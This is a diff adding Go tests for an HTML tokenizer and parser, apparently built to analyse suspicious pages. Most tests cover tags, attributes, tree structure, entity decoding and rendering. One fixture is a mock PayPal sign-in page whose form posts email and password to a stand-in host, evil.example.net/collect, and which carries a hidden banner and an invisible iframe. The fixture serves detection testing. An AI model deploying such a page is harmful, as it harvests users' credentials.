@@ -1,0 +1,445 @@
+package htmlx
+
+import (
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func tokens(src string) []Token {
+	z := NewTokenizer(src)
+	var out []Token
+	for {
+		t, ok := z.Next()
+		if !ok {
+			return out
+		}
+		out = append(out, t)
+	}
+}
+
+func TestTokenizerBasicTags(t *testing.T) {
+	toks := tokens(`<div class="a">hi</div>`)
+	if len(toks) != 3 {
+		t.Fatalf("got %d tokens, want 3: %+v", len(toks), toks)
+	}
+	if toks[0].Type != StartTagToken || toks[0].Data != "div" {
+		t.Fatalf("token 0 = %+v", toks[0])
+	}
+	if v, _ := toks[0].Attr("class"); v != "a" {
+		t.Fatalf("class attr = %q", v)
+	}
+	if toks[1].Type != TextToken || toks[1].Data != "hi" {
+		t.Fatalf("token 1 = %+v", toks[1])
+	}
+	if toks[2].Type != EndTagToken || toks[2].Data != "div" {
+		t.Fatalf("token 2 = %+v", toks[2])
+	}
+}
+
+func TestTokenizerAttributeForms(t *testing.T) {
+	toks := tokens(`<input type=text name='user' required value="a b > c">`)
+	if len(toks) != 1 {
+		t.Fatalf("got %d tokens", len(toks))
+	}
+	tok := toks[0]
+	for _, c := range []struct{ k, v string }{
+		{"type", "text"}, {"name", "user"}, {"required", ""}, {"value", "a b > c"},
+	} {
+		if v, ok := tok.Attr(c.k); !ok || v != c.v {
+			t.Errorf("attr %q = %q (present=%v), want %q", c.k, v, ok, c.v)
+		}
+	}
+}
+
+func TestTokenizerUppercaseNormalized(t *testing.T) {
+	toks := tokens(`<DIV CLASS="X"></DIV>`)
+	if toks[0].Data != "div" {
+		t.Fatalf("tag = %q, want div", toks[0].Data)
+	}
+	if v, ok := toks[0].Attr("class"); !ok || v != "X" {
+		t.Fatalf("class = %q, want X (value case preserved)", v)
+	}
+}
+
+func TestTokenizerSelfClosing(t *testing.T) {
+	toks := tokens(`<br/><img src="x.png" />`)
+	if toks[0].Type != SelfClosingTagToken || toks[0].Data != "br" {
+		t.Fatalf("token 0 = %+v", toks[0])
+	}
+	if toks[1].Type != SelfClosingTagToken || toks[1].Data != "img" {
+		t.Fatalf("token 1 = %+v", toks[1])
+	}
+	if v, _ := toks[1].Attr("src"); v != "x.png" {
+		t.Fatalf("src = %q", v)
+	}
+}
+
+func TestTokenizerComment(t *testing.T) {
+	toks := tokens(`<!-- hidden banner --><p>x</p>`)
+	if toks[0].Type != CommentToken || toks[0].Data != " hidden banner " {
+		t.Fatalf("comment = %+v", toks[0])
+	}
+}
+
+func TestTokenizerScriptRawText(t *testing.T) {
+	toks := tokens(`<script>if (a < b) { document.write("<div>"); }</script>`)
+	if len(toks) != 3 {
+		t.Fatalf("got %d tokens: %+v", len(toks), toks)
+	}
+	if toks[1].Type != TextToken || !strings.Contains(toks[1].Data, `document.write("<div>")`) {
+		t.Fatalf("script body = %+v", toks[1])
+	}
+	if toks[2].Type != EndTagToken || toks[2].Data != "script" {
+		t.Fatalf("close = %+v", toks[2])
+	}
+}
+
+func TestTokenizerUnterminatedScript(t *testing.T) {
+	toks := tokens(`<script>var x = 1;`)
+	if len(toks) != 2 || toks[1].Data != "var x = 1;" {
+		t.Fatalf("tokens = %+v", toks)
+	}
+}
+
+func TestTokenizerDoctype(t *testing.T) {
+	toks := tokens(`<!DOCTYPE html><html></html>`)
+	if toks[0].Type != DoctypeToken {
+		t.Fatalf("token 0 = %+v", toks[0])
+	}
+}
+
+func TestTokenizerStrayLessThan(t *testing.T) {
+	toks := tokens(`a < b and <b>bold</b>`)
+	var text strings.Builder
+	sawBold := false
+	for _, tok := range toks {
+		if tok.Type == TextToken {
+			text.WriteString(tok.Data)
+		}
+		if tok.Type == StartTagToken && tok.Data == "b" {
+			sawBold = true
+		}
+	}
+	if !strings.Contains(text.String(), "a < b and ") || !sawBold {
+		t.Fatalf("stray < mishandled: %+v", toks)
+	}
+}
+
+func TestTokenizerQuotedGreaterThan(t *testing.T) {
+	toks := tokens(`<a href="x?a>b">link</a>`)
+	if v, _ := toks[0].Attr("href"); v != "x?a>b" {
+		t.Fatalf("href = %q", v)
+	}
+}
+
+func TestParseTreeStructure(t *testing.T) {
+	doc := Parse(`<html><body><div id="a"><p>one</p><p>two</p></div></body></html>`)
+	body := doc.Find("body")
+	if body == nil {
+		t.Fatal("no body")
+	}
+	div := body.Find("div")
+	if div == nil || div.AttrOr("id", "") != "a" {
+		t.Fatalf("div = %+v", div)
+	}
+	ps := div.FindAll("p")
+	if len(ps) != 2 {
+		t.Fatalf("got %d <p>, want 2", len(ps))
+	}
+	if ps[0].InnerText() != "one" || ps[1].InnerText() != "two" {
+		t.Fatalf("p texts = %q, %q", ps[0].InnerText(), ps[1].InnerText())
+	}
+	if ps[0].Parent != div {
+		t.Fatal("parent link broken")
+	}
+}
+
+func TestParseVoidElementsDoNotNest(t *testing.T) {
+	doc := Parse(`<div><img src="a"><input type="text"><p>after</p></div>`)
+	div := doc.Find("div")
+	if len(div.Children) != 3 {
+		t.Fatalf("div has %d children, want 3 (img, input, p siblings)", len(div.Children))
+	}
+	img := doc.Find("img")
+	if len(img.Children) != 0 {
+		t.Fatal("void element img has children")
+	}
+}
+
+func TestParseUnclosedElements(t *testing.T) {
+	doc := Parse(`<div><p>unclosed<div>inner`)
+	if doc.Find("p") == nil {
+		t.Fatal("lost <p>")
+	}
+	divs := doc.FindAll("div")
+	if len(divs) != 2 {
+		t.Fatalf("got %d divs, want 2", len(divs))
+	}
+}
+
+func TestParseStrayCloseTagDropped(t *testing.T) {
+	doc := Parse(`<div></span><p>x</p></div>`)
+	div := doc.Find("div")
+	if div == nil || div.Find("p") == nil {
+		t.Fatal("stray </span> corrupted the tree")
+	}
+}
+
+func TestInnerTextJoins(t *testing.T) {
+	doc := Parse(`<div>  Sign   in <b>to</b> <i>continue</i>  </div>`)
+	got := doc.InnerText()
+	if got != "Sign   in to continue" {
+		t.Fatalf("InnerText = %q", got)
+	}
+}
+
+func TestTagStrings(t *testing.T) {
+	doc := Parse(`<div class="x"><p>t</p><img src="i"></div>`)
+	tags := doc.TagStrings()
+	want := []string{`<div class="x">`, `<p>`, `<img src="i">`}
+	if len(tags) != len(want) {
+		t.Fatalf("tags = %v", tags)
+	}
+	for i := range want {
+		if tags[i] != want[i] {
+			t.Fatalf("tag %d = %q, want %q", i, tags[i], want[i])
+		}
+	}
+}
+
+func TestHasHiddenStyle(t *testing.T) {
+	cases := []struct {
+		html string
+		want bool
+	}{
+		{`<div style="visibility: hidden">`, true},
+		{`<div style="display:none">`, true},
+		{`<div style="DISPLAY: NONE">`, true},
+		{`<div style="color: red">`, false},
+		{`<div>`, false},
+	}
+	for _, c := range cases {
+		doc := Parse(c.html)
+		div := doc.Find("div")
+		if got := div.HasHiddenStyle(); got != c.want {
+			t.Errorf("HasHiddenStyle(%q) = %v, want %v", c.html, got, c.want)
+		}
+	}
+}
+
+func TestStyleProperty(t *testing.T) {
+	doc := Parse(`<div style="color: Red; margin : 4px">`)
+	div := doc.Find("div")
+	if got := div.Style("color"); got != "red" {
+		t.Errorf("Style(color) = %q", got)
+	}
+	if got := div.Style("margin"); got != "4px" {
+		t.Errorf("Style(margin) = %q", got)
+	}
+	if got := div.Style("padding"); got != "" {
+		t.Errorf("Style(padding) = %q, want empty", got)
+	}
+}
+
+func TestFindAllFunc(t *testing.T) {
+	doc := Parse(`<form><input type="text"><input type="password"><input type="submit"></form>`)
+	pw := doc.FindAllFunc(func(n *Node) bool {
+		return n.Tag == "input" && n.AttrOr("type", "") == "password"
+	})
+	if len(pw) != 1 {
+		t.Fatalf("got %d password inputs, want 1", len(pw))
+	}
+}
+
+func TestParseRealisticPhishingPage(t *testing.T) {
+	page := `<!DOCTYPE html>
+<html><head>
+<meta name="robots" content="noindex">
+<title>Sign in - PayPal</title>
+</head>
+<body>
+<div class="header"><img src="https://cdn.example.com/pp-logo.png"></div>
+<form action="https://evil.example.net/collect" method="post">
+<input type="email" name="email" placeholder="Email">
+<input type="password" name="pass" placeholder="Password">
+<button type="submit">Log In</button>
+</form>
+<div style="visibility:hidden" class="weebly-banner">Powered by Weebly</div>
+<iframe src="https://other.example.org/frame" width="0" height="0"></iframe>
+</body></html>`
+	doc := Parse(page)
+	if doc.Find("form") == nil {
+		t.Fatal("no form")
+	}
+	metas := doc.FindAll("meta")
+	found := false
+	for _, m := range metas {
+		if m.AttrOr("name", "") == "robots" && strings.Contains(m.AttrOr("content", ""), "noindex") {
+			found = true
+		}
+	}
+	if !found {
+		t.Fatal("noindex meta not found")
+	}
+	banners := doc.FindAllFunc(func(n *Node) bool { return n.HasHiddenStyle() })
+	if len(banners) != 1 {
+		t.Fatalf("hidden elements = %d, want 1", len(banners))
+	}
+	if doc.Find("iframe") == nil {
+		t.Fatal("no iframe")
+	}
+}
+
+// Property: the parser never panics and every element's parent chain reaches
+// the document root.
+func TestPropertyParseNeverPanicsAndTreeIsSound(t *testing.T) {
+	f := func(s string) bool {
+		if len(s) > 300 {
+			s = s[:300]
+		}
+		doc := Parse(s)
+		sound := true
+		doc.Walk(func(n *Node) bool {
+			if n == doc {
+				return true
+			}
+			p := n
+			for p.Parent != nil {
+				p = p.Parent
+			}
+			if p != doc {
+				sound = false
+			}
+			return true
+		})
+		return sound
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// Property: tokenizer always terminates and consumes all input.
+func TestPropertyTokenizerTerminates(t *testing.T) {
+	f := func(s string) bool {
+		if len(s) > 500 {
+			s = s[:500]
+		}
+		z := NewTokenizer(s)
+		for i := 0; ; i++ {
+			if _, ok := z.Next(); !ok {
+				return true
+			}
+			if i > len(s)+10 {
+				return false // more tokens than bytes: no progress
+			}
+		}
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func BenchmarkParseTypicalPage(b *testing.B) {
+	var sb strings.Builder
+	sb.WriteString("<html><body>")
+	for i := 0; i < 100; i++ {
+		sb.WriteString(`<div class="row"><a href="/page">link</a><p>some text content here</p></div>`)
+	}
+	sb.WriteString("</body></html>")
+	src := sb.String()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		Parse(src)
+	}
+}
+
+func TestDecodeEntities(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"l&#111;gin", "login"},
+		{"l&#x6F;gin", "login"},
+		{"a &amp; b", "a & b"},
+		{"&lt;div&gt;", "<div>"},
+		{"no entities", "no entities"},
+		{"broken &unknown; ref", "broken &unknown; ref"},
+		{"trailing &", "trailing &"},
+		{"&#0; null", "&#0; null"},                    // invalid codepoint left alone
+		{"&#x110000;", "&#x110000;"},                  // out of range
+		{"caf&eacute-ish &copy;", "caf&eacute-ish ©"}, // missing semicolon vs valid
+	}
+	for _, c := range cases {
+		if got := DecodeEntities(c.in); got != c.want {
+			t.Errorf("DecodeEntities(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+func TestInnerTextDecoded(t *testing.T) {
+	doc := Parse(`<p>Sign in to your &#80;ayPal &amp; verify</p>`)
+	got := doc.InnerTextDecoded()
+	if got != "Sign in to your PayPal & verify" {
+		t.Fatalf("InnerTextDecoded = %q", got)
+	}
+}
+
+// Property: decoding is idempotent for entity-free output and never panics.
+func TestPropertyDecodeEntitiesTotal(t *testing.T) {
+	f := func(s string) bool {
+		if len(s) > 200 {
+			s = s[:200]
+		}
+		out := DecodeEntities(s)
+		// Output never grows (references only shrink or stay).
+		return len(out) <= len(s)+4
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestRenderRoundTrip(t *testing.T) {
+	src := `<html><head><title>T</title></head><body><div class="a"><p>one</p><img src="x"><!-- c --></div></body></html>`
+	doc := Parse(src)
+	out := doc.Render()
+	redoc := Parse(out)
+	// Structure is preserved: same tags in same order.
+	a := doc.TagStrings()
+	b := redoc.TagStrings()
+	if len(a) != len(b) {
+		t.Fatalf("tag count changed: %d -> %d\n%s", len(a), len(b), out)
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			t.Fatalf("tag %d changed: %q -> %q", i, a[i], b[i])
+		}
+	}
+	if doc.InnerText() != redoc.InnerText() {
+		t.Fatalf("text changed: %q -> %q", doc.InnerText(), redoc.InnerText())
+	}
+}
+
+// Property: parse→render→parse is structure-preserving for arbitrary input.
+func TestPropertyRenderStable(t *testing.T) {
+	f := func(s string) bool {
+		if len(s) > 300 {
+			s = s[:300]
+		}
+		doc := Parse(s)
+		redoc := Parse(doc.Render())
+		a, b := doc.TagStrings(), redoc.TagStrings()
+		if len(a) != len(b) {
+			return false
+		}
+		for i := range a {
+			if a[i] != b[i] {
+				return false
+			}
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 250}); err != nil {
+		t.Fatal(err)
+	}
+}
